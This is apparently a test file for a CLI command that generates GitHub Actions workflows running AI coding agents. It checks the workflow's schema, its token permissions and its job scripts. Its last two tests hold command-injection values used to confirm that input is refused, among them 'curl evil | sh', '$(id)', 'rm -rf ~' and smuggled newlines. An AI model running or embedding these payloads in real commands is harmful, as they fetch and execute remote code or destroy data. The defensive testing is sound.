/**
 * `ci github`: the GitHub Actions workflow it writes has the shape of the Actions schema, names
 * the commands each job runs, and does what it says: its `run:` scripts, run here in fresh clones
 * of a bare remote (one per job, as runners would) with a fake agent CLI on PATH and the built
 * CLI in place of `npx --no-install swarm-conductor`, push each step's branch with its commit and state, and
 * the join job merges them, the state files joined by the merge driver.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { load } from 'js-yaml';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { githubWorkflow } from '../src/ci/github.js';
import type { ExecutionContext } from '../src/types.js';
import { type Event, HEADLESS_WRITERS } from './fixtures/transcripts/make.js';
import { GIT_ENV, git } from './git.js';
import { fakeAgentsIn, TWO_THEN_ONE } from './headless-kit.js';
import { CLI, cleanup, cliIn, makeTempDir, pattern, projectAt, refused } from './helpers.js';

test.after.each(cleanup);

/** `${{ text }}`, a GitHub Actions expression. */
const expr = (text: string) => `\${{ ${text} }}`;
const WORKFLOW = '.github/workflows/swarm-conductor.yml';
const PLAN = TWO_THEN_ONE;

type Step = {
  id?: string;
  name?: string;
  if?: string;
  uses?: string;
  run?: string;
  env?: Record<string, string>;
  with?: Record<string, unknown>;
};
type Job = {
  name?: string;
  permissions?: Record<string, string>;
  needs?: string | string[];
  if?: string;
  'runs-on': string;
  outputs?: Record<string, string>;
  strategy?: { matrix: Record<string, unknown> };
  steps: Step[];
};
type Workflow = { on: Record<string, unknown>; permissions: Record<string, string>; jobs: Record<string, Job> };

// The keys the GitHub Actions workflow schema allows (docs.github.com, "Workflow syntax for GitHub Actions").
const TOP_KEYS = ['name', 'run-name', 'on', 'permissions', 'env', 'defaults', 'concurrency', 'jobs'];
const JOB_KEYS = [
  'name',
  'permissions',
  'needs',
  'if',
  'runs-on',
  'environment',
  'concurrency',
  'outputs',
  'env',
  'defaults',
  'steps',
  'timeout-minutes',
  'strategy',
  'continue-on-error',
  'container',
  'services',
  'uses',
  'with',
  'secrets',
];
const STEP_KEYS = ['id', 'if', 'name', 'uses', 'run', 'working-directory', 'shell', 'with', 'env', 'continue-on-error'];
const PERMISSION_SCOPES = [
  'actions',
  'attestations',
  'checks',
  'contents',
  'deployments',
  'discussions',
  'id-token',
  'issues',
  'models',
  'packages',
  'pages',
  'pull-requests',
  'repository-projects',
  'security-events',
  'statuses',
];
const STRATEGY_KEYS = ['matrix', 'fail-fast', 'max-parallel'];

/** The problems that would make GitHub refuse the workflow (or run something else than meant), as `path: message`. */
function actionsProblems(workflow: Record<string, unknown>): string[] {
  const problems: string[] = [];
  const unknown = (where: string, value: object, allowed: string[]) => {
    for (const key of Object.keys(value)) if (!allowed.includes(key)) problems.push(`${where}: unknown key ${key}`);
  };
  unknown('workflow', workflow, TOP_KEYS);
  const permissions = (where: string, value: unknown) => {
    if (value === undefined || value === 'read-all' || value === 'write-all' || value === '{}') return;
    if (typeof value !== 'object' || value === null) return void problems.push(`${where}: not permissions`);
    for (const [scope, access] of Object.entries(value)) {
      if (!PERMISSION_SCOPES.includes(scope)) problems.push(`${where}: unknown scope ${scope}`);
      if (!['read', 'write', 'none'].includes(access as string)) problems.push(`${where}.${scope}: ${access}`);
    }
  };
  permissions('permissions', workflow.permissions);
  if (typeof workflow.on !== 'object' || workflow.on === null) problems.push('on: missing');
  const jobs = workflow.jobs as Record<string, Record<string, unknown>> | undefined;
  if (!jobs || Object.keys(jobs).length === 0) return [...problems, 'jobs: missing'];
  for (const [name, job] of Object.entries(jobs)) {
    const at = `jobs.${name}`;
    if (!/^[A-Za-z_][\w-]*$/.test(name)) problems.push(`${at}: not a job id`);
    unknown(at, job, JOB_KEYS);
    permissions(`${at}.permissions`, job.permissions);
    if (typeof job['runs-on'] !== 'string') problems.push(`${at}.runs-on: missing`);
    const needs = job.needs === undefined ? [] : ([] as unknown[]).concat(job.needs);
    for (const other of needs) if (typeof other !== 'string' || !jobs[other]) problems.push(`${at}.needs: ${other}`);
    if (job.strategy !== undefined) unknown(`${at}.strategy`, job.strategy as object, STRATEGY_KEYS);
    if (!Array.isArray(job.steps) || job.steps.length === 0) {
      problems.push(`${at}.steps: missing`);
      continue;
    }
    job.steps.forEach((step: Record<string, unknown>, index: number) => {
      unknown(`${at}.steps[${index}]`, step, STEP_KEYS);
      if ((step.uses === undefined) === (step.run === undefined))
        problems.push(`${at}.steps[${index}]: needs exactly one of uses and run`);
      const inputs = step.with as Record<string, unknown> | undefined;
      if (inputs && Object.values(inputs).some((value) => !['string', 'number', 'boolean'].includes(typeof value)))
        problems.push(`${at}.steps[${index}].with: an input that is not a string, number or boolean`);
      if (typeof step.run === 'string' && step.run.includes('${{'))
        problems.push(`${at}.steps[${index}].run: an expression spliced into the script`);
      if (typeof step.uses === 'string' && !/^[\w.-]+\/[\w.-]+(\/[\w./-]+)?@[\w.-]+$/.test(step.uses))
        problems.push(`${at}.steps[${index}].uses: ${step.uses}`);
    });
  }
  return problems;
}

/** package.json with swarm-conductor among its devDependencies, and its lockfile: what the jobs install. */
function writeNpmProject(dir: string): void {
  const manifest = { name: 'shop', version: '1.0.0', devDependencies: { 'swarm-conductor': '^1.0.0' } };
  writeFileSync(path.join(dir, 'package.json'), JSON.stringify(manifest));
  writeFileSync(path.join(dir, 'package-lock.json'), JSON.stringify({ name: 'shop', lockfileVersion: 3 }));
}

/** A git project with PLAN executed, the merge driver set up, all committed and pushed to a bare remote. */
async function setup() {
  const root = makeTempDir('swarm-conductor-ci-');
  const bin = path.join(root, 'bin');
  const scripts = path.join(root, 'scripts');
  for (const folder of [bin, scripts]) mkdirSync(folder);
  fakeAgentsIn(bin);
  git(root, 'init', '-q', '--bare', '-b', 'main', 'remote.git');
  const remote = path.join(root, 'remote.git');
  git(root, 'clone', '-q', remote, 'shop');
  const dir = path.join(root, 'shop');
  const project = projectAt(dir);
  const env = { ...GIT_ENV, HOME: root, CI: 'true' };
  project.write('plan.json', JSON.stringify(PLAN));
  project.write('README.md', '# shop\n');
  writeNpmProject(dir);
  assert.is((await cliIn(env, dir, 'git', 'setup')).code, 0);
  const executed = await cliIn(env, dir, 'execute', 'plan.json');
  assert.is(executed.code, 0, executed.stderr);
  const id = /Execution (exec-\S+) created/.exec(executed.stdout)![1]!;
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', 'start');
  return { root, remote, dir, project, env, bin, scripts, id, run: (...args: string[]) => cliIn(env, dir, ...args) };
}

const PASS = ['> shop@1.0.0 test', '> node --test', '', 'ℹ pass 3', 'ℹ fail 0'].join('\n');
const honest = (n: number) => ({
  files: { [`src/part-${n}.ts`]: `export const part${n} = ${n};\n` },
  stream: HEADLESS_WRITERS.claude([
    { write: `src/part-${n}.ts` },
    { run: 'npm test', output: PASS, exit: 0 },
    { say: `Added \`src/part-${n}.ts\`. All 3 tests pass (\`npm test\`).` },
  ] satisfies Event[]),
});

/** The workflow `ci github` wrote, parsed. */
function workflowIn(dir: string, file = WORKFLOW): Workflow {
  return load(readFileSync(path.join(dir, file), 'utf8')) as Workflow;
}

test('the workflow has the shape of an Actions workflow: a ready job, a matrix of its steps, a join', async () => {
  const s = await setup();
  const wrote = await s.run('ci', 'github', s.id, '--agent', 'claude');
  assert.is(wrote.code, 0, wrote.stderr);
  assert.match(wrote.stdout, new RegExp(`^Wrote ${WORKFLOW}: the ready steps of ${s.id}, each a job running Claude`));
  assert.match(wrote.stdout, /^Repository secrets it reads: ANTHROPIC_API_KEY\.$/m);
  assert.is(wrote.stderr, '', 'the merge driver is in .gitattributes: nothing to warn about');
  const workflow = workflowIn(s.dir);
  assert.equal(actionsProblems(workflow as unknown as Record<string, unknown>), []);
  assert.equal(Object.keys(workflow.on), ['workflow_dispatch']);
  const { ready, step, join } = workflow.jobs;
  assert.ok(ready && step && join, 'jobs ready, step and join');
  // A read-only token for the workflow; write access only for the jobs that push.
  assert.equal(workflow.permissions, { contents: 'read' });
  assert.is(ready.permissions, undefined);
  assert.equal(step.permissions, { contents: 'write' });
  assert.equal(join.permissions, { contents: 'write' });
  // The step job keeps the token out of .git/config while the agent runs; only its push step has it.
  assert.equal(step.steps[0]?.with, { 'fetch-depth': 0, 'persist-credentials': false });
  const holding = (job: Job) =>
    job.steps.filter((one) => JSON.stringify(one).includes('GITHUB_TOKEN')).map((one) => one.name);
  assert.equal(holding(step), ["Commit the state and push the step's branch"]);
  assert.equal(
    step.steps.find((one) => one.name?.startsWith('Commit the state'))?.env?.GITHUB_TOKEN,
    expr('secrets.GITHUB_TOKEN'),
  );
  assert.equal(holding(ready), []);
  // The matrix is the first job's output, which a step of it writes to $GITHUB_OUTPUT.
  assert.is(ready.outputs?.steps, expr('steps.ready.outputs.steps'));
  assert.match(ready.steps.find((one) => one.id === 'ready')?.run ?? '', /"steps=\$steps" >> "\$GITHUB_OUTPUT"/);
  assert.is(step.needs, 'ready');
  assert.equal(step.strategy?.matrix, { step: expr('fromJSON(needs.ready.outputs.steps)') });
  assert.is(step.if, "needs.ready.outputs.steps != '[]'", 'an empty wave starts no matrix (GitHub refuses one)');
  assert.equal(join.needs, ['ready', 'step']);
  const runs = (job: Job) => job.steps.flatMap((one) => (one.run ? one.run.split('\n') : [`uses ${one.uses}`]));
  const q = `'${s.id}'`;
  assert.equal(runs(ready), [
    'uses actions/checkout@v4',
    'uses actions/setup-node@v4',
    'npm ci',
    `steps=$(npx --no-install swarm-conductor next ${q} --json | jq -c '[.ready[].stepNumber]')`,
    'echo "ready: $steps"',
    'echo "steps=$steps" >> "$GITHUB_OUTPUT"',
  ]);
  assert.equal(runs(step), [
    'uses actions/checkout@v4',
    'uses actions/setup-node@v4',
    'npm ci',
    "npm install --global '@anthropic-ai/claude-code@latest'",
    "git config user.name 'github-actions[bot]'",
    "git config user.email '41898282+github-actions[bot]@users.noreply.github.com'",
    'npx --no-install swarm-conductor git setup',
    `npx --no-install swarm-conductor run ${q} --headless --agent 'claude' --step "$STEP"`,
    "git add -A -- 'proof'",
    'git commit --quiet -m "swarm-conductor: the state after step $STEP"',
    `git push --force "https://x-access-token:\${GITHUB_TOKEN}@\${GITHUB_SERVER_URL#https://}/` +
      `\${GITHUB_REPOSITORY}.git" "HEAD:refs/heads/$BRANCH"`,
    'uses actions/upload-artifact@v4',
  ]);
  assert.ok(runs(join).includes('    git merge --no-ff --no-edit -m "swarm-conductor: join $branch" FETCH_HEAD'));
  const agentStep = step.steps.find((one) => one.run?.includes('--headless'))!;
  assert.equal(agentStep.env, { STEP: expr('matrix.step'), ANTHROPIC_API_KEY: expr('secrets.ANTHROPIC_API_KEY') });
  // Expressions reach the scripts only through env: nothing is spliced into a shell line.
  for (const job of Object.values(workflow.jobs))
    for (const one of job.steps) assert.not.match(one.run ?? '', /\$\{\{/, one.run);
  // The agent CLI at its latest version unless pinned, written as such, with a line saying to pin it.
  const text = readFileSync(path.join(s.dir, WORKFLOW), 'utf8');
  assert.match(text, /^# @anthropic-ai\/claude-code@latest installs whatever version is newest on each run: pin /m);
  const pinned = await s.run('ci', 'github', s.id, '--agent', 'claude', '--agent-version', '2.0.14', '--force');
  assert.is(pinned.code, 0, pinned.stderr);
  assert.ok(runs(workflowIn(s.dir).jobs.step!).includes("npm install --global '@anthropic-ai/claude-code@2.0.14'"));
  assert.not.match(readFileSync(path.join(s.dir, WORKFLOW), 'utf8'), /@latest|pin the one/);
  // Another agent CLI: its own package and secret.
  const codex = await s.run('ci', 'github', s.id, '--agent', 'codex', '--output', '.github/workflows/codex.yml');
  assert.is(codex.code, 0, codex.stderr);
  const other = workflowIn(s.dir, '.github/workflows/codex.yml').jobs.step!;
  assert.ok(runs(other).includes("npm install --global '@openai/codex@latest'"));
  assert.equal(other.steps.find((one) => one.run?.includes('--headless'))?.env, {
    STEP: expr('matrix.step'),
    CODEX_API_KEY: expr('secrets.CODEX_API_KEY'),
  });
});

/** `${{ … }}` in env values and outputs, from what this run knows; anything else is a test failure. */
function substitute(text: string, known: Record<string, string>): string {
  return text.replace(/\$\{\{\s*(.+?)\s*\}\}/g, (_, expression: string) => {
    const value = known[expression] ?? (expression.startsWith('secrets.') ? 'a-test-secret' : undefined);
    if (value === undefined) throw new Error(`the test does not know ${expression}`);
    return value;
  });
}

/**
 * One job as a runner would run it, in a fresh clone: checkout is a clone of the remote, setup-node
 * and npm installs are what this machine has, a failure()-only step is skipped when nothing failed,
 * and each `run:` script runs in bash -eo pipefail with `npx --no-install swarm-conductor` the built CLI. A step
 * that fails fails the test, unless `mayFail`: then the job stops there, as on a runner.
 */
function runJob(
  s: Awaited<ReturnType<typeof setup>>,
  job: Job,
  folder: string,
  known: Record<string, string>,
  mayFail = false,
): { outputs: Record<string, string>; log: string; failed?: string } {
  const dir = path.join(s.root, folder);
  const outputFile = path.join(s.root, `${folder}.output`);
  writeFileSync(outputFile, '');
  let log = '';
  let failed: string | undefined;
  for (const step of job.steps) {
    if ((step.if === 'failure()') !== (failed !== undefined)) continue;
    if (step.uses?.startsWith('actions/upload-artifact@')) continue;
    if (step.uses?.startsWith('actions/checkout@')) {
      assert.is(git(s.root, 'clone', '-q', s.remote, folder).code, 0);
      continue;
    }
    if (step.uses?.startsWith('actions/setup-node@')) continue;
    assert.ok(step.run, `${step.uses}: the test does not know this action`);
    if (step.run === 'npm ci' || /^npm install --global '[^']+'$/.test(step.run)) continue; // no network here
    const script = step.run.split('npx --no-install swarm-conductor').join(`'${process.execPath}' '${CLI}'`);
    const env = Object.fromEntries(
      Object.entries(step.env ?? {}).map(([key, value]) => [key, substitute(value, known)]),
    );
    const result = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', script], {
      cwd: dir,
      encoding: 'utf8',
      env: {
        PATH: `${s.bin}${path.delimiter}${process.env.PATH}`,
        HOME: s.root,
        GIT_CONFIG_NOSYSTEM: '1',
        CI: 'true',
        NO_COLOR: '1',
        GITHUB_OUTPUT: outputFile,
        FAKE_AGENT_SCRIPTS: s.scripts,
        GITHUB_SERVER_URL: 'https://github.com',
        GITHUB_REPOSITORY: 'owner/shop',
        // The push step's URL, with the token its env gave it, is the bare remote here.
        GIT_CONFIG_COUNT: '1',
        GIT_CONFIG_KEY_0: `url.${s.remote}.insteadOf`,
        GIT_CONFIG_VALUE_0: 'https://x-access-token:a-test-secret@github.com/owner/shop.git',
        ...env,
      },
    });
    log += `$ ${step.run}\n${result.stdout}${result.stderr}`;
    if (result.status !== 0) failed = step.name ?? step.run;
    if (!mayFail) assert.is(result.status, 0, `${failed} failed:\n${log}`);
  }
  const written = Object.fromEntries(
    readFileSync(outputFile, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]),
  );
  const outputs = Object.fromEntries(
    Object.entries(job.outputs ?? {}).map(([key, value]) => [
      key,
      substitute(value, Object.fromEntries(Object.entries(written).map(([k, v]) => [`steps.ready.outputs.${k}`, v]))),
    ]),
  );
  return { outputs, log, ...(failed ? { failed } : {}) };
}

test("run locally, the jobs' scripts push each step's branch with its commit and state, and join them", async () => {
  const s = await setup();
  assert.is((await s.run('ci', 'github', s.id, '--agent', 'claude')).code, 0);
  git(s.dir, 'add', '-A');
  git(s.dir, 'commit', '-qm', 'the workflow');
  assert.is(git(s.dir, 'push', '-q', 'origin', 'main').code, 0);
  for (const n of [1, 2]) writeFileSync(path.join(s.scripts, `step-${n}.json`), JSON.stringify(honest(n)));
  const workflow = workflowIn(s.dir);
  const { ready, step, join } = workflow.jobs as Record<string, Job>;

  const wave = runJob(s, ready!, 'ready', {});
  assert.is(wave.outputs.steps, '[1,2]', wave.log);
  const matrix = JSON.parse(wave.outputs.steps!) as number[];
  // Each matrix job on a machine of its own, from the same commit.
  for (const n of matrix) {
    const known = { 'matrix.step': String(n), 'needs.ready.outputs.steps': wave.outputs.steps! };
    const job = runJob(s, step!, `step-${n}`, known);
    assert.match(job.log, new RegExp(`✓ ${n} \\w+: verified, merged`), job.log);
  }
  const file = `proof/execution-${s.id}.json`;
  const at = (ref: string, what: string) => git(s.remote, 'show', `${ref}:${what}`);
  const statuses = (ref: string) =>
    (JSON.parse(at(ref, file).out) as ExecutionContext).stepResults.map((result) => result.status);
  for (const n of matrix) {
    const branch = `conductor/${s.id}/step-${n}`;
    assert.is(at(branch, `src/part-${n}.ts`).out, `export const part${n} = ${n};\n`, `${branch} has the step's work`);
    assert.is(at(branch, `src/part-${3 - n}.ts`).code, 128, `${branch} has only its own step's work`);
    assert.equal(statuses(branch), n === 1 ? ['completed', 'pending', 'pending'] : ['pending', 'completed', 'pending']);
    assert.is(
      git(s.remote, 'log', '-1', '--format=%s', branch).out.trim(),
      `swarm-conductor: the state after step ${n}`,
    );
    assert.match(at(branch, `proof/execution-${s.id}`).out, new RegExp(`step-${n}-\\w+\\.transcript\\.jsonl`));
  }
  assert.equal(statuses('main'), ['pending', 'pending', 'pending'], 'main is as it was until the join');

  const joined = runJob(s, join!, 'join', { 'needs.ready.outputs.steps': wave.outputs.steps! });
  for (const n of matrix) assert.is(at('main', `src/part-${n}.ts`).code, 0, joined.log);
  assert.equal(statuses('main'), ['completed', 'completed', 'pending'], 'the merge driver joined the state files');
  // The next run of the workflow is the next wave.
  assert.is(runJob(s, ready!, 'ready-again', {}).outputs.steps, '[3]');
});

test('a step that fails pushes no branch, and the join merges the others', async () => {
  const s = await setup();
  assert.is((await s.run('ci', 'github', s.id, '--agent', 'claude')).code, 0);
  git(s.dir, 'add', '-A');
  git(s.dir, 'commit', '-qm', 'the workflow');
  git(s.dir, 'push', '-q', 'origin', 'main');
  writeFileSync(path.join(s.scripts, 'step-1.json'), JSON.stringify(honest(1)));
  writeFileSync(path.join(s.scripts, 'step-2.json'), JSON.stringify({ ...honest(2), exit: 1 }));
  const { step, join } = workflowIn(s.dir).jobs as Record<string, Job>;
  const steps = '[1,2]';
  runJob(s, step!, 'step-1', { 'matrix.step': '1', 'needs.ready.outputs.steps': steps });
  const failing = runJob(s, step!, 'step-2', { 'matrix.step': '2', 'needs.ready.outputs.steps': steps }, true);
  assert.is(failing.failed, 'Run the step with Claude Code', failing.log);
  assert.not.match(failing.log, /git push/, 'the job stopped at the failed step');
  assert.is.not(git(s.remote, 'rev-parse', '--verify', '--quiet', `conductor/${s.id}/step-2`).code, 0);
  const joined = runJob(s, join!, 'join', { 'needs.ready.outputs.steps': steps });
  assert.match(joined.log, /step 2: no branch conductor\/\S+\/step-2 \(the step failed\): not joined/);
  assert.is(git(s.remote, 'show', 'main:src/part-1.ts').code, 0);
  assert.is(git(s.remote, 'show', 'main:src/part-2.ts').code, 128);
});

test('bad input is refused with what to do, and nothing is written', async () => {
  const s = await setup();
  await refused(
    s.project,
    ['ci', 'github', s.id, '--agent', 'aider'],
    pattern(
      /^error: ci github runs an agent CLI it can install on a runner, and "aider" is not one\n/,
      / {2}hint: name one of them: --agent claude, copilot, gemini, opencode, codex\n$/,
    ),
  );
  await refused(s.project, ['ci', 'github', s.id], /^error: ci github needs the agent CLI the jobs run\n/);
  await refused(
    s.project,
    ['ci', 'github', s.id, '--agent', 'claude', '--agent-version', '^2; curl evil'],
    pattern(
      /^error: ci github cannot install the agent version "\^2; curl evil"\n/,
      / {2}hint: give --agent-version a version \(1\.2\.3\) or a dist-tag \(latest\)\n$/,
    ),
  );
  await refused(
    s.project,
    ['ci', 'github', 'exec-nope', '--agent', 'claude'],
    /^error: no execution matches "exec-nope"/,
  );
  s.project.write(WORKFLOW, 'name: mine\n');
  await refused(
    s.project,
    ['ci', 'github', s.id, '--agent', 'claude'],
    /^error: \.github\/workflows\/swarm-conductor\.yml exists already; nothing was written\n {2}hint: add --force/,
  );
  const notRun = (output: string) =>
    pattern(
      /^error: GitHub runs workflows only from \.github\/workflows\/ at the top of the repository, and /,
      new RegExp(`${output.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} is not there; nothing was written\n`),
      / {2}hint: use --output \.github\/workflows\/<name>\.yml\n$/,
    );
  for (const output of [
    'ci.yml',
    '../x.yml',
    '.github/workflows/ci.json',
    '.github/workflows/sub/ci.yml',
    'app/.github/workflows/ci.yml',
  ])
    await refused(s.project, ['ci', 'github', s.id, '--agent', 'claude', '--output', output], notRun(output));
  const forced = await s.run('ci', 'github', s.id, '--agent', 'claude', '--force');
  assert.is(forced.code, 0, forced.stderr);
  assert.match(s.project.read(WORKFLOW), /^# Written by swarm-conductor ci github/);
  const yaml = await s.run('ci', 'github', s.id, '--agent', 'claude', '--output', '.github/workflows/wave.yaml');
  assert.is(yaml.code, 0, yaml.stderr);
  assert.match(yaml.stdout, /\(gh workflow run wave\.yaml\)/);
  // In a project below the repository's top, the hint names the workflows folder from there.
  const app = s.project.path('app');
  mkdirSync(app);
  writeNpmProject(app);
  writeFileSync(path.join(app, 'plan.json'), JSON.stringify(PLAN));
  assert.is((await cliIn(s.env, app, 'execute', 'plan.json')).code, 0);
  const below = await cliIn(s.env, app, 'ci', 'github', '--agent', 'claude', '--output', 'x.yml');
  assert.is(below.code, 2, below.stderr);
  assert.match(below.stderr, /hint: use --output \.\.\/\.github\/workflows\/<name>\.yml\n$/);
  assert.not.ok(s.project.exists('app/x.yml'));
});

test('a finished execution has nothing for a workflow to run: refused, with its id or without', async () => {
  const s = await setup();
  for (const n of ['1', '2', '3']) assert.is((await s.run('complete', s.id, n)).code, 0);
  await refused(
    s.project,
    ['ci', 'github', s.id, '--agent', 'claude'],
    new RegExp(`^error: every step of ${s.id} is done: nothing for a workflow to run\\n {2}hint: .*execute <planfile>`),
  );
  await refused(s.project, ['ci', 'github', '--agent', 'claude'], /^error: every execution is done\n/);
});

test('a project npm ci cannot install its own swarm-conductor into is refused, and nothing is written', async () => {
  const s = await setup();
  const refuse = (message: RegExp) => refused(s.project, ['ci', 'github', s.id, '--agent', 'claude'], message);
  const notListed = (where: string) =>
    pattern(
      new RegExp(`^error: swarm-conductor is not a dependency of this project \\(${where}\\): `),
      /the workflow's jobs run the project's own copy\n/,
      / {2}hint: npm install -D swarm-conductor, commit package.json and the lockfile, then run this again\n$/,
    );
  s.project.write('package.json', JSON.stringify({ name: 'shop', dependencies: { other: '1' } }));
  await refuse(notListed('package\\.json'));
  rmSync(s.project.path('package.json'));
  await refuse(notListed('it has no package\\.json'));
  s.project.write('package.json', JSON.stringify({ name: 'shop', dependencies: { 'swarm-conductor': '1' } }));
  rmSync(s.project.path('package-lock.json'));
  await refuse(
    pattern(
      /^error: the workflow's jobs install the project with npm ci, which needs a lockfile, and this project has none /,
      /\(package-lock\.json\)\n {2}hint: npm install writes package-lock\.json: commit it, then run this again\n$/,
    ),
  );
  s.project.write('pnpm-lock.yaml', 'lockfileVersion: 9\n');
  await refuse(
    pattern(
      /^error: this project installs with pnpm \(pnpm-lock\.yaml\), and the workflow's jobs install with npm ci, /,
      /which reads package-lock\.json\n {2}hint: ci github writes workflows for npm projects only: /,
    ),
  );
  s.project.write('npm-shrinkwrap.json', '{}');
  const wrote = await s.run('ci', 'github', s.id, '--agent', 'claude');
  assert.is(wrote.code, 0, `npm-shrinkwrap.json is a lockfile npm ci reads: ${wrote.stderr}`);
});

test('ci github says what to commit first: the merge driver in .gitattributes, the execution state', async () => {
  const root = makeTempDir('swarm-conductor-ci-');
  git(root, 'init', '-q', '-b', 'main');
  writeFileSync(path.join(root, 'plan.json'), JSON.stringify(PLAN));
  writeNpmProject(root);
  const env = { ...GIT_ENV, HOME: root };
  assert.is((await cliIn(env, root, 'execute', 'plan.json')).code, 0);
  const wrote = await cliIn(env, root, 'ci', 'github', '--agent', 'gemini');
  assert.is(wrote.code, 0, wrote.stderr);
  assert.match(
    wrote.stderr,
    /^note: the execution's state is not committed as it is: commit proof\/ before the first run$/m,
  );
  assert.match(wrote.stderr, /^note: \.gitattributes does not name the merge driver yet, .*git setup and commit/m);
  assert.match(readFileSync(path.join(root, WORKFLOW), 'utf8'), /GEMINI_API_KEY: \$\{\{ secrets\.GEMINI_API_KEY \}\}/);
});

test('what the builder writes into a shell line is checked first: an id or name that could be more is refused', () => {
  const input = {
    executionId: 'exec-1',
    agent: { name: 'claude', label: 'Claude Code', ci: { package: '@anthropic-ai/claude-code', secrets: ['KEY'] } },
    projectDir: '',
    proofDir: 'proof',
    worktreesDir: '.conductor/worktrees',
  };
  assert.match(githubWorkflow(input), /--agent 'claude'/);
  const bad: [Partial<typeof input> & Record<string, unknown>, RegExp][] = [
    [{ executionId: "x'; curl evil | sh; '" }, /the execution id/],
    [{ executionId: 'a\nb' }, /the execution id/],
    [{ agent: { ...input.agent, name: 'claude $(id)' } }, /the agent name/],
    [{ agent: { ...input.agent, ci: { package: 'x; rm -rf ~', secrets: [] } } }, /the npm package/],
    [{ agent: { ...input.agent, ci: { package: 'x', secrets: ['A }} ${{ github.token'] } } }, /the secret name/],
    [{ proofDir: "proof' && evil '" }, /the proof folder/],
    [{ proofDir: '../elsewhere' }, /the proof folder/],
    [{ projectDir: 'app\nrun: evil' }, /the project folder/],
  ];
  for (const [change, message] of bad) {
    assert.throws(() => githubWorkflow({ ...input, ...change } as typeof input), message, JSON.stringify(change));
  }
});

test.run();
